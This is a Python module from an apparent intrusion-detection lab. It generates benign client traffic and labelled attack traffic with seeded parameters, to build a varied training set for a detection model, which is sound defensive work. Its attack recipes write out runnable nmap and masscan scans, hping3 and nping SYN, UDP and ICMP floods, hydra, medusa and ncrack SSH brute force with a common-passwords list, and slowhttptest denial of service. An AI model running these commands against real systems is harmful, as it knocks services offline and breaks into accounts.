"""What each benign activity and each attack runs: real tools with parameters drawn from a seeded generator.

Every recipe returns a Step: the command (run inside the client's namespace), the bound after which it is killed,
and what it was (tool, parameters), for the log and the labels. Attacks draw their tool too, so a model trained on
one run has seen several tools and parameter sets per attack kind, and a run with another seed meets others.
Pure functions of (context, generator): unit-tested without namespaces.
"""
import os
import shlex
from dataclasses import dataclass, field

USERS = ["root", "admin", "test", "user", "ubuntu", "oracle", "guest", "pi", "ftp", "deploy", "git", "postgres"]
COMMON_PASSWORDS = ["123456", "password", "admin", "root", "toor", "qwerty", "letmein", "welcome", "monkey",
                    "dragon", "master", "secret", "changeme", "passw0rd", "trustno1", "iloveyou", "sunshine",
                    "princess", "football", "shadow", "superman", "michael", "ninja", "mustang", "access", "batman",
                    "zaq1zaq1", "hello", "charlie", "donald", "starwars", "freedom", "whatever", "qazwsx", "654321",
                    "jordan23", "harley", "1q2w3e4r", "abc123", "login", "solo", "flower", "hottie", "loveme",
                    "admin123", "pass123", "test", "guest"]
DNS_DOMAIN = "lab.example"
DNS_NAMES = ["www", "mail", "api", "cdn", "db", "files", "intranet", "wiki", "git", "ntp", "printer", "vpn",
             "auth", "static", "img", "login", "shop", "news", "chat", "backup"]
SSH_COMMANDS = ["uname -a", "uptime", "cat /etc/os-release", "ls -l /usr/bin | head -n {n}", "df -h", "id",
                "ps -e | wc -l", "sleep {s}; date", "ls /usr/share | head -n {n}", "head -c {b} /dev/zero | wc -c"]


@dataclass(frozen=True)
class Step:
    args: list
    timeout: float
    text: str
    tool: str
    params: str = ""
    cwd: str = None


@dataclass
class Context:
    """What recipes need to know about the run: addresses, each server's services, the files prepared."""
    ips: dict               # host name -> address
    macs: dict              # host name -> MAC
    servers: dict           # host name -> plan.Services
    work_dir: str
    ssh_key: str
    upload_files: list      # paths of files benign clients upload
    wordlists: dict = field(default_factory=dict)  # name -> path (written by prepare())

    @staticmethod
    def interface(host):
        return f"{host}-eth0"  # as nidslib.bridgelab names a host's end of its link

    def url(self, server, path):
        return f"http://{self.ips[server]}:{self.servers[server].http}{path}"


def _ssh_options(ctx, server, rng):
    return ["-i", ctx.ssh_key, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR",
            "-o", f"Ciphers={rng.choice(['aes128-ctr', 'aes256-gcm@openssh.com', 'chacha20-poly1305@openssh.com'])}"]


def _size(rng, low, high):
    """A size between low and high, log-uniform (many small, some large)."""
    return int(round(low * (high / low) ** rng.random()))


# ---- benign ------------------------------------------------------------------------------------------------------

def http_page(ctx, rng, client, server):
    assets = rng.randint(0, 8)
    version = rng.choice(["--http1.1", "--http1.1", "--http1.0"])
    urls = [ctx.url(server, "/")] + [ctx.url(server, f"/asset{i}.{rng.choice(['css', 'js', 'png', 'jpg'])}"
                                                    f"?size={_size(rng, 300, 300_000)}") for i in range(assets)]
    args = ["curl", "-s", version, "--max-time", "20"]
    if assets > 1 and rng.random() < 0.5:
        args += ["-Z", "--parallel-max", str(rng.randint(2, 6))]
    for url in urls:
        args += ["-o", "/dev/null", url]
    return Step(args, 25, f"HTTP page with {assets} assets", "curl", f"{version} assets={assets}")


def http_download(ctx, rng, client, server):
    size = _size(rng, 20_000, 8_000_000)
    args = ["curl", "-s", "-o", "/dev/null", "--max-time", "40"]
    text = f"HTTP download {size} B"
    if rng.random() < 0.6:
        seconds = rng.uniform(2.0, 30.0)
        rate = max(8_000, int(size / seconds))
        args += ["--limit-rate", str(rate)]
        text += f" at {rate} B/s"
    return Step(args + [ctx.url(server, f"/files/{size}.bin")], 45, text, "curl", f"size={size}")


def http_cancel(ctx, rng, client, server):
    after = round(rng.uniform(0.15, 3.0), 2)
    rate = _size(rng, 50_000, 2_000_000)
    return Step(["curl", "-s", "-o", "/dev/null", "--limit-rate", str(rate), "--max-time", str(after),
                 ctx.url(server, f"/files/{_size(rng, 2_000_000, 20_000_000)}.iso")], 10,
                f"HTTP download cancelled after {after} s", "curl", f"max-time={after}")


def http_post(ctx, rng, client, server):
    path = rng.choice(ctx.upload_files)
    form = rng.random() < 0.4
    data = ["-F", f"file=@{path}"] if form else ["--data-binary", f"@{path}"]
    return Step(["curl", "-s", "-o", "/dev/null", "--max-time", "20", *data, ctx.url(server, "/upload")], 25,
                f"HTTP POST {os.path.getsize(path) if os.path.exists(path) else '?'} B", "curl",
                "form" if form else "binary")


def wget(ctx, rng, client, server):
    size = _size(rng, 500, 2_000_000)
    return Step(["wget", "-q", "-O", "/dev/null", "-T", "15", "-t", "1", ctx.url(server, f"/doc/{size}.pdf")], 20,
                f"wget {size} B", "wget", f"size={size}")


def browse(ctx, rng, client, server):
    """A keep-alive session with think times (a person reading pages): long, mostly idle, then bursts."""
    requests = rng.randint(2, 8)
    think = (round(rng.uniform(0.2, 1.0), 2), round(rng.uniform(1.0, 4.0), 2))
    return Step(["python3", os.path.join(os.path.dirname(os.path.abspath(__file__)), "browse.py"),
                 "--url", ctx.url(server, "/"), "--requests", str(requests), "--think", f"{think[0]},{think[1]}",
                 "--seed", str(rng.randrange(1 << 30))], 60, f"browsing, {requests} requests", "python-http.client",
                f"requests={requests} think={think}")


def http_api(ctx, rng, client, server):
    """A script polling an API: a new connection per request, a short pause between them (many small flows to one
    port, at a rate a slow brute force could have too)."""
    count = rng.randint(3, 25)
    pause = round(rng.uniform(0.05, 1.5), 2)
    url = ctx.url(server, f"/api/v1/items/{_size(rng, 50, 20_000)}")
    command = (f"for i in $(seq {count}); do curl -s -o /dev/null --max-time 2 '{url}?page='$i; sleep {pause}; "
               f"done")
    return Step(["sh", "-c", command], min(90, count * (pause + 1) + 10), f"API polling, {count} requests every {pause} s",
                "curl", f"count={count} pause={pause}")


def lookup(ctx, rng, client, server):
    """The name lookup a client makes before it connects (dig, as a stub resolver would ask)."""
    name = rng.choice(DNS_NAMES)
    return Step(["dig", f"@{ctx.ips[server]}", "-p", str(ctx.servers[server].dns), "+tries=1", "+time=2", "+short",
                 f"{name}.{DNS_DOMAIN}"], 6, f"lookup {name}", "dig", "")


def page_heavy(ctx, rng, client, server):
    """A heavy page: 20-60 resources fetched over many short connections at once (an HTTP/1.0 client or a
    browser's parallel connections): a burst of new flows to one port, as benign as a page gets."""
    assets = rng.randint(20, 60)
    urls = [ctx.url(server, f"/r{i}.{rng.choice(['js', 'css', 'png', 'woff'])}?size={_size(rng, 200, 40_000)}")
            for i in range(assets)]
    args = ["curl", "-s", "--http1.0", "--max-time", "20", "-Z", "--parallel-max", str(rng.randint(4, 16))]
    for url in urls:
        args += ["-o", "/dev/null", url]
    return Step(args, 25, f"heavy page, {assets} resources over parallel connections", "curl", f"assets={assets}")


def dns_burst(ctx, rng, client, server):
    """A burst of lookups (a mail server or a log processor resolving names): many UDP flows to port 53."""
    count = rng.randint(10, 40)
    names = [f"{rng.choice(DNS_NAMES)}{rng.randrange(100)}.{DNS_DOMAIN}" for _ in range(count)]
    args = ["dig", f"@{ctx.ips[server]}", "-p", str(ctx.servers[server].dns), "+tries=1", "+time=1"]
    for name in names:
        args += [name, "A"]
    return Step(args, 30, f"DNS burst, {count} lookups", "dig", f"queries={count}")


def health_check(ctx, rng, client, server):
    """A monitoring agent checking a handful of service ports on a few hosts, open or not: a benign fan-out
    over ports and hosts (a scan has hundreds)."""
    targets = [server] + rng.sample(sorted(set(ctx.ips) - {client, server}), rng.randint(0, 2))
    checks = []
    for target in targets:
        services = ctx.servers.get(target)
        known = services.tcp_ports() if services else []
        ports = rng.sample(sorted(set(known + [22, 25, 80, 443, 3306, 5432, 6379, 8080])), rng.randint(3, 8))
        checks += [f"nc -z -w 1 {ctx.ips[target]} {port}" for port in ports]
    command = "; ".join(checks) + "; true"
    return Step(["sh", "-c", command], 5 + 2 * len(checks), f"health check of {len(checks)} ports", "nc",
                f"ports={len(checks)}")


def http_refused(ctx, rng, client, server):
    closed = [p for p in (21, 23, 25, 110, 143, 443, 993, 3306, 5432, 6379, 8443, 9200, 11211)
              if p not in ctx.servers[server].tcp_ports()]
    port = rng.choice(closed)
    return Step(["curl", "-s", "-o", "/dev/null", "--max-time", "3", f"http://{ctx.ips[server]}:{port}/"], 8,
                f"connection to closed port {port}", "curl", f"port={port}")


def ssh_command(ctx, rng, client, server):
    count = rng.randint(1, 3)
    commands = [rng.choice(SSH_COMMANDS).format(n=rng.randint(3, 60), s=round(rng.uniform(0.2, 3), 1),
                                                b=_size(rng, 100, 200_000)) for _ in range(count)]
    command = "; ".join(commands)
    return Step(["ssh", *_ssh_options(ctx, server, rng), "-p", str(ctx.servers[server].ssh),
                 f"root@{ctx.ips[server]}", command], 30, f"SSH: {command}", "ssh", f"{count} commands")


def ssh_interactive(ctx, rng, client, server):
    """A session that lives for a while and prints now and then, as a person at a shell would."""
    lines = rng.randint(3, 15)
    pause = round(rng.uniform(0.3, 2.0), 1)
    command = f"for i in $(seq {lines}); do date; ls /usr/bin | head -n $((i*3)) | tail -n 3; sleep {pause}; done"
    return Step(["ssh", "-tt", *_ssh_options(ctx, server, rng), "-p", str(ctx.servers[server].ssh),
                 f"root@{ctx.ips[server]}", command], 60, f"SSH session, {lines} lines every {pause} s", "ssh",
                f"lines={lines} pause={pause}")


def scp(ctx, rng, client, server):
    path = rng.choice(ctx.upload_files)
    target = os.path.join(ctx.work_dir, "uploads", f"{client}-{rng.randrange(1 << 20)}")
    options = [o for o in _ssh_options(ctx, server, rng)]
    return Step(["scp", "-q", *options, "-P", str(ctx.servers[server].ssh), path, f"root@{ctx.ips[server]}:{target}"],
                40, f"scp upload {os.path.basename(path)}", "scp", "")


def iperf_tcp(ctx, rng, client, server):
    seconds = rng.randint(2, 8)
    rate = f"{round(rng.uniform(0.5, 40), 1)}M"
    args = ["iperf3", "-c", ctx.ips[server], "-p", str(rng.choice(ctx.servers[server].iperf)), "-t", str(seconds),
            "-b", rate]
    if rng.random() < 0.3:
        args.append("-R")
    return Step(args, seconds + 15, f"iperf3 TCP {rate}b/s for {seconds} s", "iperf3", " ".join(args[5:]))


def iperf_udp(ctx, rng, client, server):
    seconds = rng.randint(2, 6)
    rate = f"{round(rng.uniform(0.2, 8), 1)}M"
    length = rng.randint(200, 1400)
    args = ["iperf3", "-c", ctx.ips[server], "-p", str(rng.choice(ctx.servers[server].iperf)), "-u", "-t",
            str(seconds), "-b", rate, "-l", str(length)]
    return Step(args, seconds + 15, f"iperf3 UDP {rate}b/s, {length} B datagrams, {seconds} s", "iperf3",
                " ".join(args[5:]))


def voip(ctx, rng, client, server):
    """A voice-like stream: small datagrams at a steady 50 per second."""
    seconds = rng.randint(4, 15)
    length = rng.choice([160, 172, 200, 240])
    rate = f"{length * 8 * 50 // 1000}K"
    args = ["iperf3", "-c", ctx.ips[server], "-p", str(rng.choice(ctx.servers[server].iperf)), "-u", "-t",
            str(seconds), "-b", rate, "-l", str(length)]
    return Step(args, seconds + 15, f"voice-like UDP stream {seconds} s", "iperf3", " ".join(args[5:]))


def nc_upload(ctx, rng, client, server):
    size = _size(rng, 1_000, 5_000_000)
    command = (f"head -c {size} /dev/urandom | nc -N -w 5 {ctx.ips[server]} {ctx.servers[server].sink_tcp}")
    return Step(["sh", "-c", command], 30, f"nc upload {size} B", "nc", f"size={size}")


def dns(ctx, rng, client, server):
    count = rng.randint(1, 6)
    args = ["dig", f"@{ctx.ips[server]}", "-p", str(ctx.servers[server].dns), "+tries=1", "+time=2"]
    if rng.random() < 0.1:
        args.append("+tcp")
    for _ in range(count):
        name = rng.choice(DNS_NAMES) if rng.random() < 0.8 else f"host{rng.randrange(10_000)}"
        args += [f"{name}.{DNS_DOMAIN}", rng.choice(["A", "A", "A", "AAAA", "MX", "TXT"])]
    return Step(args, 15, f"DNS: {count} queries", "dig", f"queries={count}")


def ping(ctx, rng, client, server):
    count = rng.randint(1, 10)
    interval = round(rng.uniform(0.2, 1.2), 2)
    size = rng.choice([56, 56, 56, 64, 100, 500, 1000, 1400])
    target = server if rng.random() < 0.8 else rng.choice(sorted(ctx.ips))
    return Step(["ping", "-q", "-c", str(count), "-i", str(interval), "-s", str(size), "-W", "2", ctx.ips[target]],
                count * interval + 8, f"ping {target} x{count}", "ping", f"c={count} i={interval} s={size}")


def syslog(ctx, rng, client, server):
    """Log lines over UDP syslog, each from a fresh socket (a new flow each): a burst of small UDP flows."""
    count = rng.randint(2, 15)
    pause = round(rng.uniform(0.02, 0.5), 2)
    port = ctx.servers[server].syslog
    command = (f"for i in $(seq {count}); do logger -n {ctx.ips[server]} -P {port} -d -t app$i "
               f"\"event $i $(date +%s%N)\"; sleep {pause}; done")
    return Step(["sh", "-c", command], count * pause + 10, f"{count} syslog lines", "logger",
                f"count={count} pause={pause}")


BENIGN = {
    "http-page": http_page, "http-download": http_download, "http-cancel": http_cancel, "http-post": http_post,
    "wget": wget, "browse": browse, "http-api": http_api, "page-heavy": page_heavy, "dns-burst": dns_burst,
    "health-check": health_check, "http-refused": http_refused, "ssh-command": ssh_command,
    "ssh-interactive": ssh_interactive, "scp": scp, "iperf-tcp": iperf_tcp, "iperf-udp": iperf_udp, "voip": voip,
    "nc-upload": nc_upload, "dns": dns, "ping": ping, "syslog": syslog,
}
# Activities an attacker host may do between its attacks: short ones, so none runs into its next attack window.
SHORT_BENIGN = ("http-page", "wget", "ssh-command", "dns", "ping", "http-refused")
# Activities a client may precede with a name lookup.
LOOKUP_FIRST = ("http-page", "http-download", "http-post", "wget", "browse", "http-api", "page-heavy", "ssh-command",
                "ssh-interactive", "scp")


# ---- attacks -----------------------------------------------------------------------------------------------------

def _port_list(rng):
    choice = rng.random()
    if choice < 0.35:
        return f"1-{rng.choice([1024, 2000, 3000])}"
    if choice < 0.7:
        start = rng.randint(1, 30_000)
        return f"{start}-{start + rng.randint(300, 3000)}"
    return "--top-ports"


def _port_count(ports):
    return sum(int(b) - int(a) + 1 if "-" in part else 1
               for part in ports.split(",") for a, _, b in [part.partition("-")])


def _scan_targets(ctx, rng, server):
    if rng.random() < 0.7:
        return [ctx.ips[server]]
    others = [ip for name, ip in sorted(ctx.ips.items()) if ip != ctx.ips[server]]
    return [ctx.ips[server]] + rng.sample(others, rng.randint(1, min(3, len(others))))


def syn_scan(ctx, rng, attacker, server, budget):
    targets = _scan_targets(ctx, rng, server)
    tool = rng.choice(["nmap-syn", "nmap-syn", "nmap-connect", "masscan", "hping3"])
    ports = _port_list(rng)
    if tool.startswith("nmap"):
        args = ["nmap", "-sS" if tool == "nmap-syn" else "-sT", "-Pn", "-n", "--max-retries", "1"]
        if tool == "nmap-syn":
            args.append("--send-ip")  # raw IP through the kernel's neighbours; nmap's own ARP gets no answer
        args += rng.choice([["-T3"], ["-T4"], ["-T5"], ["--max-rate", str(rng.choice([100, 300, 1000, 3000]))]])
        args += ["--top-ports", str(rng.choice([100, 500, 1000]))] if ports == "--top-ports" else ["-p", ports]
        args += ["--host-timeout", f"{int(budget) - 3}s", *targets]
    elif tool == "masscan":
        rate = rng.choice([200, 500, 1000, 2000])
        ports = ports if ports != "--top-ports" else "1-1024"
        target = targets[0]
        name = next(n for n, ip in ctx.ips.items() if ip == target)
        args = ["masscan", target, "-p", ports, "--rate", str(rate), "--adapter", ctx.interface(attacker),
                "--adapter-ip", ctx.ips[attacker], "--router-mac", ctx.macs[name], "--wait", "1"]
        # masscan does not always exit after its --wait without a terminal: stopped once its probes are out.
        budget = min(budget, _port_count(ports) / rate + 4)
    else:
        ports = ports if ports != "--top-ports" else "1-1024"
        args = ["hping3", "--scan", ports, "-S", targets[0]]
    return Step(args, budget, f"SYN scan ({tool}) of {', '.join(targets)}", tool.split("-")[0],
                shlex.join(args[1:]))


def udp_scan(ctx, rng, attacker, server, budget):
    targets = _scan_targets(ctx, rng, server)
    tool = rng.choice(["nmap", "hping3", "masscan"])
    if tool == "nmap":
        count = rng.choice([50, 100, 200, 500])
        args = ["nmap", "-sU", "-Pn", "-n", "--send-ip", "--max-retries", "0", "--top-ports", str(count),
                "--max-rate", str(rng.choice([50, 150, 500, 1500])), "--host-timeout", f"{int(budget) - 3}s", *targets]
    elif tool == "hping3":
        start = rng.randint(1, 40_000)
        count = rng.randint(300, 2000)
        interval = rng.choice([500, 1000, 2000, 5000])
        args = ["hping3", "-q", "--udp", "-p", f"++{start}", "-c", str(count), "-i", f"u{interval}", "-d",
                str(rng.choice([0, 0, 8, 32])), targets[0]]
    else:
        target = targets[0]
        name = next(n for n, ip in ctx.ips.items() if ip == target)
        start = rng.randint(1, 30_000)
        ports = f"{start}-{start + rng.randint(500, 3000)}"
        rate = rng.choice([200, 500, 1500])
        args = ["masscan", target, "-pU:" + ports, "--rate", str(rate), "--adapter", ctx.interface(attacker),
                "--adapter-ip", ctx.ips[attacker], "--router-mac", ctx.macs[name], "--wait", "1"]
        budget = min(budget, _port_count(ports) / rate + 4)
    return Step(args, budget, f"UDP scan ({tool}) of {', '.join(targets)}", tool, shlex.join(args[1:]))


def syn_flood(ctx, rng, attacker, server, budget):
    tool = rng.choice(["hping3", "hping3", "nping"])
    port = rng.choice([ctx.servers[server].http, ctx.servers[server].ssh, ctx.servers[server].http, 443, 25])
    seconds = budget - 3
    rate = rng.choice([300, 600, 1000, 2000, 3000])
    if tool == "hping3":
        args = ["hping3", "-q", "-S", "-p", str(port), "-i", f"u{1_000_000 // rate}", "-c", str(int(rate * seconds)),
                "-w", str(rng.choice([64, 512, 1024, 5840, 29200, 65535])), "-d", str(rng.choice([0, 0, 0, 20, 120]))]
        args.append(ctx.ips[server])
    else:
        args = ["nping", "-q", "--tcp", "--flags", "syn", "-p", str(port), "--rate", str(rate), "-c",
                str(int(rate * seconds)), ctx.ips[server]]
    return Step(args, budget, f"SYN flood ({tool}) on {ctx.ips[server]}:{port} at {rate}/s", tool,
                shlex.join(args[1:]))


def udp_flood(ctx, rng, attacker, server, budget):
    tool = rng.choice(["hping3", "hping3", "nping"])
    port = rng.choice([ctx.servers[server].dns, ctx.servers[server].sink_udp, 123, 161, 1900, 11211,
                       rng.randint(1024, 65535)])
    seconds = budget - 3
    rate = rng.choice([300, 600, 1000, 2000, 3000])
    size = rng.choice([0, 16, 64, 256, 512, 1024, 1400])
    if tool == "hping3":
        args = ["hping3", "-q", "--udp", "-p", str(port), "-i", f"u{1_000_000 // rate}", "-c",
                str(int(rate * seconds)), "-d", str(size), ctx.ips[server]]
    else:
        args = ["nping", "-q", "--udp", "-p", str(port), "--rate", str(rate), "-c", str(int(rate * seconds)),
                "--data-length", str(size), ctx.ips[server]]
    return Step(args, budget, f"UDP flood ({tool}) on {ctx.ips[server]}:{port}, {size} B at {rate}/s", tool,
                shlex.join(args[1:]))


def icmp_flood(ctx, rng, attacker, server, budget):
    tool = rng.choice(["hping3", "ping", "nping"])
    seconds = budget - 3
    rate = rng.choice([200, 500, 1000, 2000, 3000])
    size = rng.choice([0, 56, 56, 128, 512, 1000, 1400])
    targets = [ctx.ips[server]]
    if tool == "hping3":
        args = ["hping3", "-q", "--icmp", "-i", f"u{1_000_000 // rate}", "-c", str(int(rate * seconds)), "-d",
                str(size), targets[0]]
    elif tool == "ping":
        # ping paces itself down to 2 ms between echoes (-f would send as fast as replies come back: unbounded).
        rate = min(rate, 500)
        args = ["ping", "-q", "-i", str(round(1.0 / rate, 4)), "-c", str(int(rate * seconds)), "-s", str(size),
                "-w", str(int(seconds) + 1), targets[0]]
    else:
        args = ["nping", "-q", "--icmp", "--rate", str(rate), "-c", str(int(rate * seconds)), "--data-length",
                str(size), targets[0]]
    return Step(args, budget, f"ICMP flood ({tool}) on {targets[0]}, {size} B at {rate}/s", tool,
                shlex.join(args[1:]))


def ssh_bruteforce(ctx, rng, attacker, server, budget):
    tool = rng.choice(["hydra", "medusa", "ncrack"])
    port = str(ctx.servers[server].ssh)
    wordlist = rng.choice(sorted(ctx.wordlists))
    path = ctx.wordlists[wordlist]
    user = rng.choice(USERS)
    tasks = rng.choice([1, 2, 4, 6, 8, 16])
    ip = ctx.ips[server]
    if tool == "hydra":
        args = ["hydra", "-I", "-q", "-l", user, "-P", path, "-t", str(tasks), "-w", "10", "-s", port, f"ssh://{ip}"]
    elif tool == "medusa":
        args = ["medusa", "-h", ip, "-n", port, "-u", user, "-P", path, "-M", "ssh", "-t", str(tasks), "-T", "1"]
    else:
        timing = rng.choice(["-T3", "-T4", "-T5"])
        args = ["ncrack", timing, "--user", user, "-P", path, "-p", f"ssh:{port}", "--connection-limit",
                str(max(2, tasks)), ip]
    return Step(args, budget, f"SSH brute force ({tool}, {tasks} tasks, user {user}) on {ip}:{port}", tool,
                shlex.join(args[1:]), cwd=ctx.work_dir)


def slow_http(ctx, rng, attacker, server, budget):
    mode = rng.choice(["-H", "-H", "-B", "-X"])
    connections = rng.choice([40, 80, 150, 300, 500])
    rate = rng.choice([10, 25, 50, 100, 200])
    interval = rng.choice([2, 5, 10, 15])
    seconds = int(budget) - 5
    args = ["slowhttptest", mode, "-c", str(connections), "-r", str(rate), "-i", str(interval), "-l", str(seconds),
            "-p", "3", "-u", ctx.url(server, rng.choice(["/", "/index.html", "/login", f"/files/{_size(rng, 1000, 300000)}"]))]
    if mode == "-B":
        args += ["-s", str(rng.choice([4096, 8192, 65536])), "-x", str(rng.choice([10, 24, 48]))]
    elif mode == "-H":
        args += ["-x", str(rng.choice([8, 24, 32, 64]))]
    else:
        args = args[:-2] + ["-u", ctx.url(server, f"/files/{_size(rng, 200_000, 2_000_000)}"), "-k",
                            str(rng.randint(1, 3)), "-n", str(rng.randint(1, 3)), "-w", str(rng.choice([1, 8, 32])),
                            "-y", str(rng.choice([64, 256, 512])), "-z", str(rng.choice([4, 16, 32]))]
    names = {"-H": "slowloris", "-B": "slow body", "-X": "slow read"}
    return Step(args, budget, f"slow HTTP DoS ({names[mode]}, {connections} connections at {rate}/s) on "
                f"{ctx.url(server, '/')}", "slowhttptest", shlex.join(args[1:]))


ATTACKS = {"syn-scan": syn_scan, "udp-scan": udp_scan, "syn-flood": syn_flood, "udp-flood": udp_flood,
           "icmp-flood": icmp_flood, "ssh-bruteforce": ssh_bruteforce, "slow-http": slow_http}
